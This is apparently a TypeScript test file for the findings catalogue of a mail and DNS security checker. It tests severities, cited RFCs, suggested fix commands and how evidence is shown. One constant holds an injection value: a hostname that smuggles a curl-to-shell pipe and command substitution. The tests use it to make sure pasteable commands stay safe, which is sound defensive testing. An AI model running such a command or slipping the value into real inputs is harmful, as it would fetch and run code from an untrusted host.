// The catalogue of findings: each says what it is, why it matters, what to do, and by which living standard.
import catalogue from '@postern/shared/report/findings.json' with { type: 'json' }
import {
  FINDING_IDS,
  type FindingId,
  finding,
  inOrder,
  isWorse,
  SECTIONS,
  SEVERITIES,
  underProfile,
  withRecord,
} from '@postern/shared/report/finding.ts'
import { describe, expect, it } from 'vitest'
import { OBSOLETE } from '../rooms-rules.ts'

/** What is to be done instead, by the names of cases. */
const otherwise = new Map(
  Object.entries(catalogue as Readonly<Record<string, { otherwise?: Readonly<Record<string, string>> }>>).map(
    ([id, entry]) => [id, Object.keys(entry.otherwise ?? {})],
  ),
)
const inEachCase = (id: FindingId, about: Parameters<typeof finding>[1]) =>
  [undefined, ...(otherwise.get(id) ?? [])].map((when) => finding(id, { ...about, when }))
const all = FINDING_IDS.flatMap((id) => inEachCase(id, { domain: 'a.test', subject: 'mx.a.test', value: '7' }))

describe('the catalogue', () => {
  it('has about a hundred findings, each whole', () => {
    expect(all.length).toBeGreaterThanOrEqual(95)
    for (const { title, explanation, fix, section, severity } of all) {
      expect(SECTIONS).toContain(section)
      expect(SEVERITIES).toContain(severity)
      for (const text of [title, explanation, fix]) expect(text.trim().length).toBeGreaterThanOrEqual(6)
      expect(`${explanation} ${fix}`).not.toMatch(/[{}]/)
      expect(explanation + fix).not.toContain('undefined')
    }
  })

  it('cites living standards only', () => {
    const cited = all.flatMap(({ refs }) => refs.map(({ rfc }) => String(rfc)))
    expect(cited.length).toBeGreaterThan(80)
    expect(cited.filter((rfc) => OBSOLETE[rfc] !== undefined)).toEqual([])
  })

  it('is no worse than its worst, whatever a case makes of it', () => {
    expect(finding('MX_DANGLING_NXDOMAIN', { domain: 'a.test', severity: 'critical' }).severity).toBe('critical')
    expect(finding('MX_NULL', { domain: 'a.test', severity: 'critical' }).severity).toBe('info')
    expect(finding('STS_MX_UNMATCHED', { domain: 'a.test', severity: 'low' }).severity).toBe('low')
  })

  it('speaks of its case', () => {
    const { fix, subject } = finding('STS_MX_UNMATCHED', { domain: 'a.test', subject: 'mx2.a.test' })
    expect([subject, fix]).toEqual([
      'mx2.a.test',
      'Add `mx: mx2.a.test` to the policy and change the id of the record.',
    ])
  })
})

describe('a text', () => {
  const EVIL = 'x;curl${ifs}evil|sh;`id`.a.test'
  const of = (id: FindingId, subject: string, value = '') => finding(id, { domain: 'a.test', subject, value })

  it.each([
    ['a name', 'mx.a.test', 'Look at `openssl s_client -starttls smtp -connect mx.a.test:25`.'],
    ['an address of IPv4', '192.0.2.1', 'Look at `openssl s_client -starttls smtp -connect 192.0.2.1:25`.'],
    ['what a shell would run', EVIL, 'Look at `openssl s_client -starttls smtp -connect HOST:25`.'],
    ['what a program would obey', '--help', 'Look at `openssl s_client -starttls smtp -connect HOST:25`.'],
    ['nothing', '', 'Look at `openssl s_client -starttls smtp -connect HOST:25`.'],
  ])('with a command that is to be pasted names %s', (_what, subject, fix) => {
    expect(of('TLS_HANDSHAKE_FAILED', subject).fix).toBe(fix)
  })

  it('without a command shows a name as it was published', () => {
    const { explanation, subject } = of('MX_DANGLING_NXDOMAIN', EVIL)
    expect(explanation).toContain(`The name ${EVIL} is not in the DNS`)
    expect(subject).toBe(EVIL)
  })

  it('has no command, whatever its id, in which a name is read by a shell', () => {
    const commands = FINDING_IDS.flatMap((id) => {
      const texts = inEachCase(id, { domain: EVIL, subject: EVIL, value: EVIL }).map(
        ({ explanation, fix }) => `${explanation} ${fix}`,
      )
      return [...texts.join(' ').matchAll(/`((?:curl|delv|dig|openssl|swaks) [^`]*)`/g)].map(([, one]) => one)
    })
    expect(commands.length).toBeGreaterThanOrEqual(4)
    for (const command of commands) expect(command).toMatch(/^[a-zA-Z0-9 +_.:/@<-]+$/)
  })

  it.each(['$&', '$1', '$`', '{value}', '{domain}'])('takes %s for what it is', (subject) => {
    expect(of('STS_MX_UNMATCHED', subject, 'V').fix).toBe(
      `Add \`mx: ${subject}\` to the policy and change the id of the record.`,
    )
  })

  it('is as long as anybody reads', () => {
    const { subject, explanation, fix } = of('DKIM_INVALID', 'a'.repeat(65_000), 'b'.repeat(65_000))
    expect([subject!.length, (explanation + fix).length < 2_000]).toEqual([300, true])
  })
})

describe('a record', () => {
  const three = ['SPF_PTR', 'SPF_LONG', 'SPF_NO_ALL'] as const

  it('is shown by the first finding about it, and no more than a thousand characters of it', () => {
    const found = withRecord(
      three.map((id) => finding(id, { domain: 'a.test', evidence: { lookups: 1 } })),
      'a'.repeat(2_000),
    )
    expect(found.map(({ evidence }) => evidence)).toEqual([
      { record: `${'a'.repeat(999)}…`, lookups: 1 },
      { lookups: 1 },
      { lookups: 1 },
    ])
  })

  it('that is short is shown whole, and that is not there as null', () => {
    const one = [finding('SPF_PTR', { domain: 'a.test' })]
    expect(withRecord(one, 'v=spf1')[0]!.evidence).toEqual({ record: 'v=spf1' })
    expect(withRecord(one, null)[0]!.evidence).toEqual({ record: null })
    expect(withRecord([], 'v=spf1')).toEqual([])
  })
})

it('a profile weighs findings otherwise, or leaves them out', () => {
  const found = [
    finding('MX_NO_IPV6', { domain: 'a.test' }),
    finding('SPF_NONE', { domain: 'a.test' }),
    finding('MX_NXDOMAIN', { domain: 'a.test' }),
  ]
  const weighed = underProfile(found, { MX_NO_IPV6: { severity: 'medium' }, SPF_NONE: { severity: null } })
  expect(weighed.map(({ id, severity }) => `${id} ${severity}`)).toEqual(['MX_NO_IPV6 medium', 'MX_NXDOMAIN critical'])
  expect(inOrder(found).map(({ id }) => id)).toEqual(['MX_NXDOMAIN', 'SPF_NONE', 'MX_NO_IPV6'])
  expect(isWorse('low', 'info')).toBe(true)
})
